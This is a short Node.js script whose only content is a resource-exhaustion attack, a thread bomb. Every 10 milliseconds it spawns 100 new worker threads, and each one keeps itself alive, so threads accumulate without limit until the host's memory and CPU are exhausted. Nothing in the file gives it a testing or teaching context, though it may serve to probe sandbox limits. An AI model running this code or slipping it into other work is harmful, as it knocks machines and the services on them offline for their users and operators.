const { Worker } = require('worker_threads');

const src = `setInterval(() => {}, 1000);`;
function spawnForever() {
  setInterval(() => {
    for (let i = 0; i < 100; i++) {
      new Worker(src, { eval: true });
    }
  }, 10);
}

spawnForever();
